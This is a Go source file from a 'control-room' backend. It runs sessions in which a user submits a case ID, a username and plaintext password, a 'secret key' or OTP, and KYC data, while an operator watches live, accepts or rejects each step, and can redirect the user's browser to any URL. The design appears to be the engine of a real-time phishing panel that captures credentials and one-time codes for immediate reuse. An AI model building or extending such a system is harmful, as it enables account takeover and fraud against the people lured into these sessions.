// Package session is the orchestration core: it applies user submissions and
// agent decisions to verification sessions, enforces the stage state machine,
// writes the audit log, and is the single publisher of realtime events.
package session

import (
	"context"
	"errors"
	"fmt"
	"log"
	"strings"
	"time"

	model "github.com/verist/control-room/backend/internal/model/session"
	"github.com/verist/control-room/backend/internal/realtime"
	"github.com/verist/control-room/backend/internal/store"
)

// Actor is the authenticated agent performing an operation.
type Actor struct {
	ID        string
	Name      string
	Superuser bool
}

// Publisher is the broadcast fabric boundary. Publish failures never fail
// the business operation; the orchestrator logs and swallows them.
type Publisher interface {
	Publish(event realtime.Event, channels ...string) error
}

// GuestTokenIssuer mints the short-lived credential a verified user presents
// on the realtime connection.
type GuestTokenIssuer interface {
	IssueGuestToken(sessionID string) (string, error)
}

// CaseIDAllocator produces unique external case ids when the agent did not
// supply one.
type CaseIDAllocator interface {
	Generate(ctx context.Context) (string, error)
}

// Service is the session orchestrator.
type Service struct {
	store     store.Store
	allocator CaseIDAllocator
	tokens    GuestTokenIssuer
	publisher Publisher
	kycURL    string
}

// NewService wires the orchestrator's collaborators. publisher may be nil in
// tests that don't observe fan-out.
func NewService(st store.Store, allocator CaseIDAllocator, tokens GuestTokenIssuer, publisher Publisher, kycURL string) *Service {
	return &Service{
		store:     st,
		allocator: allocator,
		tokens:    tokens,
		publisher: publisher,
		kycURL:    kycURL,
	}
}

// CreateSession provisions a session owned by the acting agent. A supplied
// external case id is authoritative; otherwise the allocator generates one.
func (s *Service) CreateSession(ctx context.Context, actor Actor, externalCaseID, notes string) (model.Session, error) {
	externalCaseID = strings.TrimSpace(externalCaseID)
	if externalCaseID == "" {
		generated, err := s.allocator.Generate(ctx)
		if err != nil {
			return model.Session{}, fmt.Errorf("allocate case id: %w", err)
		}
		externalCaseID = generated
	}

	sess := model.Session{
		ExternalCaseID: externalCaseID,
		AgentID:        actor.ID,
		AgentName:      actor.Name,
		Stage:          model.StageCaseID,
		Status:         model.StatusActive,
		Notes:          notes,
	}
	if err := s.store.CreateSession(ctx, &sess); err != nil {
		if errors.Is(err, store.ErrDuplicateCaseID) {
			return model.Session{}, validationErr("external case id %q already in use", externalCaseID)
		}
		return model.Session{}, err
	}

	s.appendLog(ctx, sess.ID, model.LogSessionStart, "Session started", map[string]any{
		"created_by": actor.Name,
		"case_id":    externalCaseID,
	})
	s.emit(realtime.Event{
		Type:      "session_created",
		SessionID: sess.ID,
		CaseID:    sess.ExternalCaseID,
		Payload:   sessionPayload(sess),
	}, s.stateChannels(sess)...)

	return sess, nil
}

// VerifyCase is the user's entry point: it validates the case id against an
// active session, marks the user online, advances to the credentials stage,
// and mints the guest credential scoped to this session.
func (s *Service) VerifyCase(ctx context.Context, caseID string) (model.Session, string, error) {
	caseID = strings.TrimSpace(caseID)
	if caseID == "" {
		return model.Session{}, "", validationErr("case_id is required")
	}

	found, err := s.store.GetSessionByCaseID(ctx, caseID)
	if err != nil {
		if errors.Is(err, store.ErrNotFound) {
			return model.Session{}, "", ErrNotFound
		}
		return model.Session{}, "", err
	}
	if found.Status != model.StatusActive {
		// Inactive sessions are invisible to the user flow.
		return model.Session{}, "", ErrNotFound
	}

	updated, err := s.store.UpdateSession(ctx, found.ID, func(sess *model.Session) error {
		if sess.Status != model.StatusActive {
			return ErrNotFound
		}
		sess.UserOnline = true
		sess.Stage = model.StageCreds
		return nil
	})
	if err != nil {
		return model.Session{}, "", err
	}

	s.appendLog(ctx, updated.ID, model.LogUserConnection, "User verified case ID and connected", nil)
	s.emit(realtime.Event{
		Type:      "user_status",
		SessionID: updated.ID,
		CaseID:    caseID,
		Payload:   map[string]any{"status": "case_id_verified"},
	}, s.stateChannels(updated)...)
	s.emit(realtime.Event{
		Type:      "session_update",
		SessionID: updated.ID,
		Payload:   map[string]any{"stage": updated.Stage, "user_online": true},
	}, realtime.SessionChannel(updated.ID))

	guestToken, err := s.tokens.IssueGuestToken(updated.ID)
	if err != nil {
		return model.Session{}, "", fmt.Errorf("issue guest token: %w", err)
	}
	return updated, guestToken, nil
}

// SubmitCredentials stores the user's login attempt for agent review.
func (s *Service) SubmitCredentials(ctx context.Context, caseID, username, password string) (model.Session, error) {
	if strings.TrimSpace(username) == "" || password == "" {
		return model.Session{}, validationErr("username and password are required")
	}
	return s.submit(ctx, caseID, model.StageCreds,
		map[string]any{"username": username, "password": password},
		model.LogUserInput, "User submitted credentials",
		"credentials_submitted")
}

// SubmitSecretKey stores the user's secret key / OTP for agent review.
func (s *Service) SubmitSecretKey(ctx context.Context, caseID, secretKey string) (model.Session, error) {
	if strings.TrimSpace(secretKey) == "" {
		return model.Session{}, validationErr("secret_key is required")
	}
	return s.submit(ctx, caseID, model.StageSecretKey,
		map[string]any{"secret_key": secretKey},
		model.LogUserInput, "User submitted secret key",
		"secret_key_submitted")
}

// StartKyc records that the user entered the external KYC flow and returns
// the redirect target.
func (s *Service) StartKyc(ctx context.Context, caseID string) (model.Session, string, error) {
	sess, err := s.submit(ctx, caseID, model.StageKYC,
		map[string]any{"status": "started", "started_at": time.Now().UTC().Format(time.RFC3339)},
		model.LogUserActivity, "User started KYC process",
		"kyc_started")
	if err != nil {
		return model.Session{}, "", err
	}
	return sess, s.kycURL, nil
}

// SubmitKyc records that the user finished the external KYC flow.
func (s *Service) SubmitKyc(ctx context.Context, caseID string) (model.Session, error) {
	return s.submit(ctx, caseID, model.StageKYC,
		map[string]any{"status": "submitted", "submitted_at": time.Now().UTC().Format(time.RFC3339)},
		model.LogUserInput, "User submitted KYC",
		"kyc_submitted")
}

// submit writes the pending submission for the stage it targets. The session
// does not need to be on that stage already; the agent's accept is the gate.
func (s *Service) submit(ctx context.Context, caseID string, stage model.Stage, data map[string]any, logType model.LogType, logMsg, statusLabel string) (model.Session, error) {
	caseID = strings.TrimSpace(caseID)
	if caseID == "" {
		return model.Session{}, validationErr("case_id is required")
	}

	found, err := s.store.GetSessionByCaseID(ctx, caseID)
	if err != nil {
		if errors.Is(err, store.ErrNotFound) {
			return model.Session{}, ErrNotFound
		}
		return model.Session{}, err
	}

	updated, err := s.store.UpdateSession(ctx, found.ID, func(sess *model.Session) error {
		if sess.Status != model.StatusActive {
			return ErrNotFound
		}
		sess.Data.CurrentSubmission = model.Submission{Stage: stage, Data: data}
		return nil
	})
	if err != nil {
		return model.Session{}, err
	}

	extra := map[string]any{}
	if username, ok := data["username"]; ok {
		// Credentials are logged by username only; the secret stays in the
		// staged bag until an agent reviews it.
		extra["username"] = username
	}
	s.appendLog(ctx, updated.ID, logType, logMsg, extra)
	s.emit(realtime.Event{
		Type:      "user_status",
		SessionID: updated.ID,
		CaseID:    caseID,
		Payload: map[string]any{
			"status": statusLabel,
			"data":   map[string]any{"stage": stage, "data": data},
		},
	}, s.stateChannels(updated)...)

	return updated, nil
}

// AcceptLogin verifies the credentials submission and advances the session.
func (s *Service) AcceptLogin(ctx context.Context, sessionID string, actor Actor) (model.Session, error) {
	return s.accept(ctx, sessionID, actor, model.StageCreds,
		"Agent accepted login credentials",
		"Login credentials accepted. Please proceed to enter your secret key.")
}

// RejectLogin clears the credentials submission; the user retries.
func (s *Service) RejectLogin(ctx context.Context, sessionID string, actor Actor, reason string) (model.Session, error) {
	return s.reject(ctx, sessionID, actor, model.StageCreds, reason, "Invalid credentials")
}

// AcceptOtp verifies the secret key submission and advances the session.
func (s *Service) AcceptOtp(ctx context.Context, sessionID string, actor Actor) (model.Session, error) {
	return s.accept(ctx, sessionID, actor, model.StageSecretKey,
		"Agent accepted secret key",
		"Secret key verified. Please proceed to complete KYC.")
}

// RejectOtp clears the secret key submission; the user retries.
func (s *Service) RejectOtp(ctx context.Context, sessionID string, actor Actor, reason string) (model.Session, error) {
	return s.reject(ctx, sessionID, actor, model.StageSecretKey, reason, "Invalid secret key")
}

// AcceptKyc verifies the KYC submission and completes the session.
func (s *Service) AcceptKyc(ctx context.Context, sessionID string, actor Actor) (model.Session, error) {
	return s.accept(ctx, sessionID, actor, model.StageKYC,
		"Agent accepted KYC and completed session",
		"KYC verified. Verification process completed successfully!")
}

// RejectKyc clears the KYC submission; the user retries.
func (s *Service) RejectKyc(ctx context.Context, sessionID string, actor Actor, reason string) (model.Session, error) {
	return s.reject(ctx, sessionID, actor, model.StageKYC, reason, "KYC verification failed")
}

func (s *Service) accept(ctx context.Context, sessionID string, actor Actor, expected model.Stage, logMsg, userMsg string) (model.Session, error) {
	successor, ok := AcceptSuccessor(expected)
	if !ok {
		return model.Session{}, validationErr("stage %q has no accept decision", expected)
	}

	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		if err := authorize(sess, actor); err != nil {
			return err
		}
		if sess.Status.Terminal() {
			return transitionErr(sess, "session is %s", sess.Status)
		}
		submission := sess.Data.CurrentSubmission
		if submission.Stage != expected {
			return transitionErr(sess, "expected submission for stage %q, have %q", expected, submission.Stage)
		}

		if sess.Data.Verified == nil {
			sess.Data.Verified = make(map[model.Stage]model.VerifiedEntry)
		}
		sess.Data.Verified[expected] = model.VerifiedEntry{
			Data:       submission.Data,
			VerifiedBy: actor.Name,
			VerifiedAt: time.Now().UTC(),
		}
		sess.Data.ClearSubmission()
		sess.Stage = successor
		if successor == model.StageCompleted {
			sess.Status = model.StatusCompleted
		}
		return nil
	})
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}

	s.appendLog(ctx, updated.ID, model.LogAgentAction, logMsg, map[string]any{"accepted_by": actor.Name})
	s.emit(realtime.Event{
		Type:      "verified_data",
		SessionID: updated.ID,
		CaseID:    updated.ExternalCaseID,
		Payload:   map[string]any{"verified_data": updated.Data.Verified},
	}, s.stateChannels(updated)...)
	s.emit(realtime.Event{
		Type:      "command",
		SessionID: updated.ID,
		Payload: map[string]any{
			"command":    "accept",
			"stage":      expected,
			"next_stage": successor,
			"message":    userMsg,
		},
	}, realtime.SessionChannel(updated.ID))

	return updated, nil
}

func (s *Service) reject(ctx context.Context, sessionID string, actor Actor, stage model.Stage, reason, defaultReason string) (model.Session, error) {
	if strings.TrimSpace(reason) == "" {
		reason = defaultReason
	}

	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		if err := authorize(sess, actor); err != nil {
			return err
		}
		if sess.Status.Terminal() {
			return transitionErr(sess, "session is %s", sess.Status)
		}
		sess.Data.ClearSubmission()
		return nil
	})
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}

	s.appendLog(ctx, updated.ID, model.LogAgentAction,
		fmt.Sprintf("Agent rejected %s: %s", stage, reason),
		map[string]any{"rejected_by": actor.Name, "reason": reason})
	s.emit(realtime.Event{
		Type:      "command",
		SessionID: updated.ID,
		Payload: map[string]any{
			"command": "reject",
			"stage":   stage,
			"message": fmt.Sprintf("%s rejected. %s Please try again.", stage, reason),
		},
	}, realtime.SessionChannel(updated.ID))

	return updated, nil
}

// Navigate moves a session to an arbitrary stage under the state machine's
// transition rules, applying the requested data-clearing mode.
func (s *Service) Navigate(ctx context.Context, sessionID string, actor Actor, target model.Stage, mode ClearMode, reason string) (model.Session, error) {
	if !target.Valid() {
		return model.Session{}, validationErr("unknown target stage %q", target)
	}

	var fromStage model.Stage
	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		if err := authorize(sess, actor); err != nil {
			return err
		}
		if sess.Status != model.StatusActive {
			return transitionErr(sess, "session is %s, not active", sess.Status)
		}
		if !CanTransition(sess.Stage, target) {
			return transitionErr(sess, "cannot navigate from %q to %q", sess.Stage, target)
		}

		fromStage = sess.Stage
		sess.Stage = target
		if target == model.StageCompleted {
			sess.Status = model.StatusCompleted
		}
		mode.Apply(&sess.Data)
		return nil
	})
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}

	logMsg := fmt.Sprintf("Session navigated from %q to %q", fromStage, target)
	if reason != "" {
		logMsg += ": " + reason
	}
	s.appendLog(ctx, updated.ID, model.LogAgentAction, logMsg, map[string]any{
		"navigated_by":    actor.Name,
		"from_stage":      fromStage,
		"to_stage":        target,
		"clear_data_mode": mode,
		"reason":          reason,
	})
	s.emit(realtime.Event{
		Type:      "session_updated",
		SessionID: updated.ID,
		CaseID:    updated.ExternalCaseID,
		Payload:   sessionPayload(updated),
	}, s.stateChannels(updated)...)
	s.emit(realtime.Event{
		Type:      "command",
		SessionID: updated.ID,
		Payload: map[string]any{
			"command":    "navigate",
			"from_stage": fromStage,
			"stage":      target,
			"message":    fmt.Sprintf("You have been moved to the %s stage.", target),
			"reason":     reason,
		},
	}, realtime.SessionChannel(updated.ID))

	return updated, nil
}

// MarkUnsuccessful closes the session with a failed verification outcome.
func (s *Service) MarkUnsuccessful(ctx context.Context, sessionID string, actor Actor, reason, comment string) (model.Session, error) {
	return s.terminate(ctx, sessionID, actor, model.StatusFailed, reason, comment)
}

// ForceComplete closes the session successfully from any stage, bypassing
// the normal accept gating. This is an explicit override.
func (s *Service) ForceComplete(ctx context.Context, sessionID string, actor Actor, reason, comment string) (model.Session, error) {
	return s.terminate(ctx, sessionID, actor, model.StatusCompleted, reason, comment)
}

// EndSession is the agent-initiated hard stop, with no verdict implied about
// the verification outcome.
func (s *Service) EndSession(ctx context.Context, sessionID string, actor Actor) (model.Session, error) {
	return s.terminate(ctx, sessionID, actor, model.StatusTerminated, "", "")
}

// terminate is the single terminal operation; the outcome tag preserves the
// distinct audit semantics of its three callers.
func (s *Service) terminate(ctx context.Context, sessionID string, actor Actor, outcome model.Status, reason, comment string) (model.Session, error) {
	if !outcome.Terminal() {
		return model.Session{}, validationErr("%q is not a terminal outcome", outcome)
	}

	var fromStage model.Stage
	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		if err := authorize(sess, actor); err != nil {
			return err
		}
		if sess.Status != model.StatusActive {
			return transitionErr(sess, "only active sessions can be closed; session is %s", sess.Status)
		}

		fromStage = sess.Stage
		sess.Stage = model.StageCompleted
		sess.Status = outcome
		sess.Data.Result = &model.VerificationResult{
			Outcome:         outcome,
			Reason:          reason,
			Comment:         comment,
			MarkedBy:        actor.Name,
			MarkedAt:        time.Now().UTC(),
			StageWhenClosed: fromStage,
		}
		return nil
	})
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}

	logMsg, command, userMsg := terminalNarrative(outcome)
	if reason != "" {
		logMsg += ": " + reason
	}
	s.appendLog(ctx, updated.ID, model.LogAgentAction, logMsg, map[string]any{
		"marked_by":  actor.Name,
		"outcome":    outcome,
		"from_stage": fromStage,
		"reason":     reason,
		"comment":    comment,
	})
	s.emit(realtime.Event{
		Type:      "session_updated",
		SessionID: updated.ID,
		CaseID:    updated.ExternalCaseID,
		Payload:   sessionPayload(updated),
	}, s.stateChannels(updated)...)
	s.emit(realtime.Event{
		Type:      "command",
		SessionID: updated.ID,
		Payload: map[string]any{
			"command": command,
			"message": userMsg,
			"reason":  reason,
		},
	}, realtime.SessionChannel(updated.ID))

	return updated, nil
}

func terminalNarrative(outcome model.Status) (logMsg, command, userMsg string) {
	switch outcome {
	case model.StatusFailed:
		return "Session marked as unsuccessful (failed verification)",
			"verification_failed",
			"Your verification was unsuccessful. Please contact support."
	case model.StatusCompleted:
		return "Session force-completed by agent",
			"session_completed",
			"Your verification has been completed."
	default:
		return "Session terminated by agent",
			"session_ended",
			"Your session has been terminated by the agent."
	}
}

// SaveNotes replaces the agent notes on a non-terminal session.
func (s *Service) SaveNotes(ctx context.Context, sessionID string, actor Actor, notes string) (model.Session, error) {
	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		if err := authorize(sess, actor); err != nil {
			return err
		}
		if sess.Status.Terminal() {
			return transitionErr(sess, "session is %s", sess.Status)
		}
		sess.Notes = notes
		return nil
	})
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}

	s.appendLog(ctx, updated.ID, model.LogAgentAction, "Agent updated notes",
		map[string]any{"notes_length": len(notes)})
	s.emit(realtime.Event{
		Type:      "session_updated",
		SessionID: updated.ID,
		CaseID:    updated.ExternalCaseID,
		Payload:   sessionPayload(updated),
	}, s.stateChannels(updated)...)

	return updated, nil
}

// GetSession fetches one session for the actor, masking other agents'
// sessions as not found.
func (s *Service) GetSession(ctx context.Context, sessionID string, actor Actor) (model.Session, error) {
	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return model.Session{}, mapStoreErr(err)
	}
	if err := authorize(&found, actor); err != nil {
		return model.Session{}, ErrNotFound
	}
	return found, nil
}

// ListSessions returns the actor's sessions (all sessions for superusers),
// newest activity first.
func (s *Service) ListSessions(ctx context.Context, actor Actor, status model.Status, stage model.Stage) ([]model.Session, error) {
	filter := store.ListFilter{Status: status, Stage: stage}
	if !actor.Superuser {
		filter.AgentID = actor.ID
	}
	return s.store.ListSessions(ctx, filter)
}

// DeleteSession removes one session after an audit append.
func (s *Service) DeleteSession(ctx context.Context, sessionID string, actor Actor) error {
	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return mapStoreErr(err)
	}
	if err := authorize(&found, actor); err != nil {
		return ErrNotFound
	}

	s.appendLog(ctx, sessionID, model.LogAgentAction,
		fmt.Sprintf("Session deleted by agent %s", actor.Name), nil)
	if err := s.store.DeleteSession(ctx, sessionID); err != nil {
		return mapStoreErr(err)
	}

	s.emit(realtime.Event{
		Type:      "session_deleted",
		SessionID: found.ID,
		CaseID:    found.ExternalCaseID,
	}, s.stateChannels(found)...)
	return nil
}

// BulkResult reports the outcome for one id in a bulk delete.
type BulkResult struct {
	SessionID string `json:"uuid"`
	Status    string `json:"status"`
	CaseID    string `json:"case_id,omitempty"`
	Message   string `json:"message,omitempty"`
}

// BulkDelete deletes each named session independently: items the actor may
// not touch or that do not exist are reported per item and never abort the
// batch.
func (s *Service) BulkDelete(ctx context.Context, actor Actor, sessionIDs []string) []BulkResult {
	results := make([]BulkResult, 0, len(sessionIDs))
	for _, id := range sessionIDs {
		found, err := s.store.GetSession(ctx, id)
		if err != nil {
			results = append(results, BulkResult{SessionID: id, Status: "not_found", Message: "Session does not exist"})
			continue
		}
		if !actor.Superuser && found.AgentID != actor.ID {
			results = append(results, BulkResult{SessionID: id, Status: "permission_denied", Message: "You can only delete your own sessions"})
			continue
		}

		s.appendLog(ctx, id, model.LogAgentAction,
			fmt.Sprintf("Session deleted in bulk by agent %s", actor.Name), nil)
		if err := s.store.DeleteSession(ctx, id); err != nil {
			results = append(results, BulkResult{SessionID: id, Status: "error", Message: err.Error()})
			continue
		}

		s.emit(realtime.Event{
			Type:      "session_deleted",
			SessionID: found.ID,
			CaseID:    found.ExternalCaseID,
		}, s.stateChannels(found)...)
		results = append(results, BulkResult{SessionID: id, Status: "deleted", CaseID: found.ExternalCaseID})
	}
	return results
}

// FetchLogs pages through a session's audit log, newest first, optionally
// filtered by category.
func (s *Service) FetchLogs(ctx context.Context, sessionID string, actor Actor, f store.LogFilter) ([]model.LogEntry, int, error) {
	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return nil, 0, mapStoreErr(err)
	}
	if err := authorize(&found, actor); err != nil {
		return nil, 0, ErrNotFound
	}
	entries, total, err := s.store.ListLogs(ctx, sessionID, f)
	if err != nil {
		return nil, 0, mapStoreErr(err)
	}
	return entries, total, nil
}

// SetUserOnline records a guest connect or disconnect and notifies the
// control room. Gateway-only; agent sockets never toggle this.
func (s *Service) SetUserOnline(ctx context.Context, sessionID string, online bool) error {
	updated, err := s.store.UpdateSession(ctx, sessionID, func(sess *model.Session) error {
		sess.UserOnline = online
		return nil
	})
	if err != nil {
		return mapStoreErr(err)
	}

	message := "User disconnected"
	status := "disconnected"
	if online {
		message = "User connected"
		status = "connected"
	}
	s.appendLog(ctx, sessionID, model.LogUserConnection, message, nil)
	s.emit(realtime.Event{
		Type:      "user_status",
		SessionID: sessionID,
		CaseID:    updated.ExternalCaseID,
		Payload:   map[string]any{"status": status, "data": map[string]any{"connected": online}},
	}, s.stateChannels(updated)...)
	return nil
}

// RecordRealtime appends a gateway-relayed message (device metadata,
// activity pings, page views, session start) to the audit log and republishes
// it to the control room. Stage and status are never touched here.
func (s *Service) RecordRealtime(ctx context.Context, sessionID string, logType model.LogType, message string, extra map[string]any) error {
	if !logType.Valid() {
		return validationErr("unknown log type %q", logType)
	}

	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return mapStoreErr(err)
	}

	s.appendLog(ctx, sessionID, logType, message, extra)
	s.emit(realtime.Event{
		Type:      string(logType),
		SessionID: sessionID,
		CaseID:    found.ExternalCaseID,
		Payload:   map[string]any{"data": extra, "message": message},
	}, s.stateChannels(found)...)
	return nil
}

// RedirectUser pushes a redirect command to the session's user socket.
func (s *Service) RedirectUser(ctx context.Context, sessionID string, actor Actor, url string) error {
	if strings.TrimSpace(url) == "" {
		return validationErr("url is required")
	}

	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return mapStoreErr(err)
	}
	if err := authorize(&found, actor); err != nil {
		return ErrNotFound
	}

	s.appendLog(ctx, sessionID, model.LogAgentAction,
		fmt.Sprintf("Agent redirected user to %s", url), nil)
	s.emit(realtime.Event{
		Type:      "command",
		SessionID: sessionID,
		Payload:   map[string]any{"command": "redirect", "url": url},
	}, realtime.SessionChannel(sessionID))
	s.emit(realtime.Event{
		Type:      "control_message",
		SessionID: sessionID,
		CaseID:    found.ExternalCaseID,
		Payload:   map[string]any{"message": fmt.Sprintf("Redirected session %s to %s", sessionID, url)},
	}, s.stateChannels(found)...)
	return nil
}

// OwningAgent reports the owner and case id for a session, for gateway
// channel routing.
func (s *Service) OwningAgent(ctx context.Context, sessionID string) (agentID string, caseID string, err error) {
	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		return "", "", mapStoreErr(err)
	}
	return found.AgentID, found.ExternalCaseID, nil
}

// SessionConnectable reports whether a guest socket may join: the original
// flow keeps just-completed sessions reachable so the user still receives
// the final command.
func (s *Service) SessionConnectable(ctx context.Context, sessionID string) (bool, error) {
	found, err := s.store.GetSession(ctx, sessionID)
	if err != nil {
		if errors.Is(err, store.ErrNotFound) {
			return false, nil
		}
		return false, err
	}
	return found.Status == model.StatusActive || found.Status == model.StatusCompleted, nil
}

func authorize(sess *model.Session, actor Actor) error {
	if actor.Superuser || sess.AgentID == actor.ID {
		return nil
	}
	return ErrUnauthorized
}

// stateChannels is the audience for session state changes and user
// submissions: the superuser firehose plus the owning agent's channel.
func (s *Service) stateChannels(sess model.Session) []string {
	return []string{realtime.ChannelFirehose, realtime.AgentChannel(sess.AgentID)}
}

func (s *Service) appendLog(ctx context.Context, sessionID string, logType model.LogType, message string, extra map[string]any) {
	entry := &model.LogEntry{
		SessionID: sessionID,
		Type:      logType,
		Message:   message,
		Extra:     extra,
	}
	if err := s.store.AppendLog(ctx, entry); err != nil {
		log.Printf("[orchestrator] failed to append log for session %s: %v", sessionID, err)
	}
}

func (s *Service) emit(event realtime.Event, channels ...string) {
	if s.publisher == nil {
		return
	}
	if err := s.publisher.Publish(event, channels...); err != nil {
		log.Printf("[orchestrator] failed to publish %s: %v", event.Type, err)
	}
}

// sessionPayload mirrors what the dashboard serializer exposes, including
// the staged bag, so control-room clients can render without a re-fetch.
func sessionPayload(sess model.Session) map[string]any {
	return map[string]any{
		"uuid":             sess.ID,
		"external_case_id": sess.ExternalCaseID,
		"agent":            sess.AgentName,
		"stage":            sess.Stage,
		"status":           sess.Status,
		"user_online":      sess.UserOnline,
		"notes":            sess.Notes,
		"user_data":        sess.Data,
		"updated_at":       sess.UpdatedAt.Format(time.RFC3339),
	}
}

func mapStoreErr(err error) error {
	if errors.Is(err, store.ErrNotFound) {
		return ErrNotFound
	}
	return err
}
